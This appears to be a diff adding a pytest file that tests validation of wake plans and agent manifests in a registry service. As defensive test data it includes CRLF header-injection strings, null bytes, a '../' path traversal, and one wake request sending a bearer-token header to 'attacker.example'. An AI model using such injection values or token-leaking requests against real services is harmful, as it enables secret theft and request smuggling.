@@ -1,0 +1,188 @@
+"""Wake plans and agents: every wrong thing by its path, and nothing secret in what is said about it."""
+
+import json
+import math
+from collections.abc import Callable
+
+import pytest
+from google.protobuf.duration_pb2 import Duration
+
+from registry_svc.manifests import to_agent, to_manifest
+from registry_svc.messages import agent_manifest_message, manifest_message
+from weft.api.registry.v1 import agent_pb2, model_pb2, wake_pb2
+from weft.kernel.errors import FieldError
+from weft.wake.recipes import DEFAULT_MAX_WAIT_SECONDS
+
+SECRET = "hunter2"
+Wake = wake_pb2.Wake
+Recipe = wake_pb2.WakeRecipe
+
+
+def http(url: str = "http://10.0.0.5/wake", method: str = "", **headers: str) -> Wake:
+    return Wake(by_mesh=Recipe(http=wake_pb2.HttpAction(url=url, method=method, headers=headers)))
+
+
+def lan(mac: str = "02:00:00:00:00:01", broadcast: str = "", port: int = 0) -> Wake:
+    action = wake_pb2.WakeOnLanAction(mac_address=mac, broadcast_address=broadcast, port=port)
+    return Wake(by_mesh=Recipe(wake_on_lan=action))
+
+
+def command(*argv: str) -> Wake:
+    return Wake(by_mesh=Recipe(command=wake_pb2.CommandAction(argv=argv)))
+
+
+def model(wake: Wake) -> model_pb2.ModelManifest:
+    return model_pb2.ModelManifest(name="m1", operations=[model_pb2.MODEL_OPERATION_CHAT], wake=wake)
+
+
+@pytest.mark.parametrize(
+    "wake",
+    [
+        Wake(by_runner=True),
+        Wake(by_runner=True, max_wait=Duration(seconds=1)),
+        http("https://user:pw@host.example:8443/x?y=z", "DELETE", Authorization="${WEFT_WAKE_KEY}"),
+        http("http://[::1]:9090/wake"),
+        lan("02-AB-00-00-00-01", "10.0.0.255", 65_535),
+        command("/usr/bin/wake", "", "--host=x\ny"),
+    ],
+)
+def test_a_good_plan_arrives_whole_and_goes_out_as_it_came(wake: Wake) -> None:
+    manifest = to_manifest(model(wake), "m", published=False)
+    again = to_manifest(manifest_message(manifest), "m", published=False)
+    assert manifest == again
+    assert manifest.wake is not None
+    assert manifest.wake.max_wait_seconds in {1.0, DEFAULT_MAX_WAIT_SECONDS}
+
+
+@pytest.mark.parametrize(
+    ("wake", "field"),
+    [
+        (Wake(), "m.wake"),
+        (Wake(by_runner=True, by_mesh=Recipe()), "m.wake.by_mesh"),
+        (Wake(by_runner=True, max_wait=Duration()), "m.wake.max_wait"),
+        (Wake(by_runner=True, max_wait=Duration(seconds=3601)), "m.wake.max_wait"),
+        (Wake(by_runner=True, max_wait=Duration(seconds=-5)), "m.wake.max_wait"),
+        (Wake(by_runner=True, max_wait=Duration(seconds=2**62)), "m.wake.max_wait"),
+        (http(f"ftp://{SECRET}/x"), "m.wake.by_mesh.http.url"),
+        (http(f"http:///{SECRET}"), "m.wake.by_mesh.http.url"),
+        (http(f"http://h/{SECRET}\r\nX: y"), "m.wake.by_mesh.http.url"),
+        (http(f"http://h:99999/{SECRET}"), "m.wake.by_mesh.http.url"),
+        (http(f"http://[::1/{SECRET}"), "m.wake.by_mesh.http.url"),
+        (http("http://h/" + SECRET * 500), "m.wake.by_mesh.http.url"),
+        (http(""), "m.wake.by_mesh.http.url"),
+        (http(method="TRACE"), "m.wake.by_mesh.http.method"),
+        (http(method="post"), "m.wake.by_mesh.http.method"),
+        (http(**{"X-A": f"{SECRET}\r\nX-B: 1"}), "m.wake.by_mesh.http.headers[X-A]"),
+        (http(**{"X-A": SECRET * 1000}), "m.wake.by_mesh.http.headers[X-A]"),
+        (http(**{"X A": "1"}), "m.wake.by_mesh.http.headers"),
+        (http(**{"": "1"}), "m.wake.by_mesh.http.headers"),
+        (http(**{"x" * 129: "1"}), "m.wake.by_mesh.http.headers"),
+        (http(**{f"x{number}": "1" for number in range(33)}), "m.wake.by_mesh.http.headers"),
+        (command(), "m.wake.by_mesh.command.argv"),
+        (command(""), "m.wake.by_mesh.command.argv"),
+        (command(*["x"] * 65), "m.wake.by_mesh.command.argv"),
+        (command("x", SECRET + "\0"), "m.wake.by_mesh.command.argv[1]"),
+        (command(SECRET * 1000), "m.wake.by_mesh.command.argv[0]"),
+        (lan(""), "m.wake.by_mesh.wake_on_lan.mac_address"),
+        (lan("02:00:00:00:00"), "m.wake.by_mesh.wake_on_lan.mac_address"),
+        (lan("02:00:00:00:00:0g"), "m.wake.by_mesh.wake_on_lan.mac_address"),
+        (lan("02:00:00:00:00:01\n"), "m.wake.by_mesh.wake_on_lan.mac_address"),
+        (lan(broadcast="::1"), "m.wake.by_mesh.wake_on_lan.broadcast_address"),
+        (lan(broadcast="256.0.0.1"), "m.wake.by_mesh.wake_on_lan.broadcast_address"),
+        (lan(port=-1), "m.wake.by_mesh.wake_on_lan.port"),
+        (lan(port=65_536), "m.wake.by_mesh.wake_on_lan.port"),
+    ],
+)
+def test_a_bad_plan_is_refused_by_its_path_without_repeating_it(wake: Wake, field: str) -> None:
+    with pytest.raises(FieldError) as refusal:
+        to_manifest(model(wake), "m", published=False)
+    assert refusal.value.field == field
+    assert SECRET not in str(refusal.value)
+
+
+def test_a_runner_may_publish_packets_and_requests_but_no_programs() -> None:
+    for wake in (http(), lan(), Wake(by_runner=True)):
+        assert to_manifest(model(wake), "m", published=True).wake is not None
+    with pytest.raises(FieldError) as refusal:
+        to_manifest(model(command("/bin/true")), "m", published=True)
+    assert refusal.value.field == "m.wake.by_mesh.command"
+
+
+def test_a_runner_may_not_have_routers_send_their_secrets_somewhere() -> None:
+    wake = http("http://attacker.example/", **{"X-Plain": "as it is", "X-Key": "Bearer ${WEFT_WAKE_TOKEN}"})
+    assert to_manifest(model(wake), "m", published=False).wake is not None
+    with pytest.raises(FieldError) as refusal:
+        to_manifest(model(wake), "m", published=True)
+    assert refusal.value.field == "m.wake.by_mesh.http.headers"
+    assert "WEFT_WAKE_TOKEN" not in str(refusal.value)
+
+
+def an_agent() -> agent_pb2.AgentManifest:
+    manifest = agent_pb2.AgentManifest(
+        name="a1", model="m1", description="for\npeople", system_prompt="Be terse.\nAlways."
+    )
+    params = manifest.default_params
+    params.temperature, params.max_tokens, params.seed = 0.25, 100, 2**40
+    params.stop.extend(["END"])
+    params.logit_bias.update({5: -1.5, 3: 2.0})
+    return manifest
+
+
+def test_a_good_agent_arrives_whole_and_goes_out_as_it_came() -> None:
+    manifest = to_agent(an_agent(), "a")
+    assert agent_manifest_message(manifest) == an_agent()
+    document = json.loads(manifest.default_params)
+    assert list(document) == sorted(document)
+    assert document["temperature"] == 0.25
+    assert not agent_manifest_message(to_agent(agent_pb2.AgentManifest(name="a", pool="p"), "a")).HasField(
+        "default_params"
+    )
+
+
+def _agent(name: str, value: object) -> Callable[[agent_pb2.AgentManifest], None]:
+    return lambda manifest: setattr(manifest, name, value)
+
+
+def _param(name: str, value: object) -> Callable[[agent_pb2.AgentManifest], None]:
+    return lambda manifest: setattr(manifest.default_params, name, value)
+
+
+@pytest.mark.parametrize(
+    ("change", "field"),
+    [
+        (_agent("name", "a/b"), "a.name"),
+        (_agent("name", "x" * 10_000), "a.name"),
+        (_agent("model", ""), "a.model"),
+        (_agent("pool", "../p"), "a.pool"),
+        (lambda manifest: manifest.ClearField("model"), "a.target"),
+        (_agent("description", "x" * 1_025), "a.description"),
+        (_agent("system_prompt", "x" * 65_537), "a.system_prompt"),
+        (_agent("system_prompt", "a\0b"), "a.system_prompt"),
+        (_param("temperature", math.nan), "a.default_params.temperature"),
+        (_param("temperature", math.inf), "a.default_params.temperature"),
+        (_param("temperature", 2.1), "a.default_params.temperature"),
+        (_param("top_p", -0.1), "a.default_params.top_p"),
+        (_param("min_p", 1.1), "a.default_params.min_p"),
+        (_param("max_tokens", 0), "a.default_params.max_tokens"),
+        (_param("top_k", -1), "a.default_params.top_k"),
+        (_param("presence_penalty", 2.5), "a.default_params.presence_penalty"),
+        (_param("frequency_penalty", -2.5), "a.default_params.frequency_penalty"),
+        (_param("repeat_penalty", -math.inf), "a.default_params.repeat_penalty"),
+        (lambda manifest: manifest.default_params.stop.append(""), "a.default_params.stop[1]"),
+        (lambda manifest: manifest.default_params.stop.extend(["x"] * 16), "a.default_params.stop"),
+        (lambda manifest: manifest.default_params.logit_bias.update({7: 101.0}), "a.default_params.logit_bias[7]"),
+        (lambda manifest: manifest.default_params.logit_bias.update({7: math.nan}), "a.default_params.logit_bias[7]"),
+        (
+            lambda manifest: manifest.default_params.logit_bias.update(dict.fromkeys(range(301), 1.0)),
+            "a.default_params.logit_bias",
+        ),
+    ],
+)
+def test_an_agent_with_one_bad_value_is_refused_by_its_path(
+    change: Callable[[agent_pb2.AgentManifest], None], field: str
+) -> None:
+    manifest = an_agent()
+    change(manifest)
+    with pytest.raises(FieldError) as refusal:
+        to_agent(manifest, "a")
+    assert refusal.value.field == field
